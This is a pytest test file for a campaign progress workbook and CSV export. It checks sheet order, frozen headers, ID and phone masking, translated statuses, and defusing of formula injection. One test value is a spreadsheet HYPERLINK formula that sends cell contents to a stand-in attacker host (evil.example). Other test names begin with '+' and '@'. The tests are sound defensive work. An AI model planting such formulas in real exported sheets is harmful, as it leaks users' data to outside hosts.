"""The progress workbook opened with openpyxl: sheets, frozen headers, no formulas, masking."""

from __future__ import annotations

import io
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest

from campaign.masking import mask_id, mask_phone
from campaign.reports.progress_workbook import FAILURES, ProgressReport, build_progress_workbook, csv_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
SHEETS = ["封面", "单位进度", "逾期单位", "校验错误", "制卡结果", "制卡批次", "制卡失败待处理", "发卡进度"]


def _report() -> ProgressReport:
    units = pd.DataFrame({
        "district_name": ["甲区工会", "甲区工会"], "area_name": ["一片区", "一片区"], "code": ["U1", "U2"],
        "unit_name": [HOSTILE, "二号单位"], "contact_name": ["+王五", "李四"], "contact_phone": ["13900000001", None],
        "status": ["approved", "not_started"], "due_at": [datetime(2026, 10, 28, 4), datetime(2026, 10, 28, 4)],
        "first_submitted_at": [datetime(2026, 10, 27, 2), pd.NaT], "expected_members": [10, 5], "collected": [10, 0],
        "validated": [9, 0], "coverage": [0.9, 0.0], "open_errors": [0, 0], "produced": [8, 0], "delivered": [2, 0],
        "late": [False, True], "days_overdue": [0.0, 23.5], "liaison_name": ["赵六", "赵六"], "liaison_phone": ["13800000000"] * 2,
    })
    failures = pd.DataFrame({
        "district_name": ["甲区工会"], "area_name": ["一片区"], "unit_name": [HOSTILE], "name": ["@张三"],
        "id_number": [mask_id("11010519491231002X")], "phone": [mask_phone("13812345678")], "reason_code": ["id_name_mismatch"],
        "failures": [1], "first_failed_at": [datetime(2026, 11, 4, 2)], "status": ["returned"], "days_open": [16.0],
        "contact_name": ["王五"], "contact_phone": ["13900000001"],
    })
    empty = pd.DataFrame()
    return ProgressReport(
        campaign_name="测试活动", scope_label="甲区工会", as_of=date(2026, 11, 20), taken_at=datetime(2026, 11, 20, 2, 0),
        exported_by="leader1", masked=True,
        figures={"units_expected": 2, "units_submitted": 1, "submission_rate": 0.5, "bank_success_rate": None},
        units=units, late_units=units[units["late"]], validation_errors=pd.DataFrame({
            "code": ["id_checksum"], "error_name": ["校验码错误"], "severity": ["error"], "findings": [3], "units": [1]}),
        bank_units=empty, batches=empty, open_failures=failures, distribution=empty,
    )


@pytest.fixture(scope="module")
def book() -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(build_progress_workbook(_report())))


def test_expected_sheets_in_order(book):
    assert book.sheetnames == SHEETS


def test_cover_has_headline_figures_and_shanghai_time(book):
    cover = book["封面"]
    values = {row[0]: row[1] for row in cover.iter_rows(values_only=True) if row[0]}
    assert values["数据提取时间（北京时间）"] == "2026-11-20 10:00"
    assert values["报送率"] == 0.5 and values["基层单位数"] == 2
    assert values["制卡成功率"] == "—"
    assert "身份证号、手机号已打码" in values


def test_headers_frozen_and_filtered(book):
    for name in SHEETS[1:]:
        sheet = book[name]
        assert sheet.freeze_panes == "A4", name
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A3"), name
    assert [c.value for c in book["单位进度"][3]][:4] == ["区工会", "片区", "单位编码", "基层单位"]
    assert book["单位进度"].column_dimensions["D"].width > 10


def test_no_formulas_and_hostile_text_neutralised(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    units = book["单位进度"]
    assert units["D4"].value == "'" + HOSTILE
    assert units["E4"].value == "'+王五"
    assert book["制卡失败待处理"]["D4"].value == "'@张三"


def test_ids_masked_numbers_typed_statuses_translated(book):
    failures = book["制卡失败待处理"]
    assert failures["E4"].value == "110***********002X"
    assert failures["F4"].value == "138****5678"
    assert failures["G4"].value == "身份证号与姓名联网核查不一致"
    units = book["单位进度"]
    assert units["G4"].value == "审核通过" and units["G5"].value == "未上传"
    assert units["M4"].value == 0.9 and units["M4"].number_format == "0.0%"
    assert units["H4"].value == datetime(2026, 10, 28, 12, 0)  # Shanghai time


def test_csv_has_bom_chinese_headers_and_neutralised_cells():
    body = csv_bytes(_report().open_failures, FAILURES)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("区工会,片区,基层单位,姓名,身份证号")
    assert "'@张三" in text and "110***********002X" in text
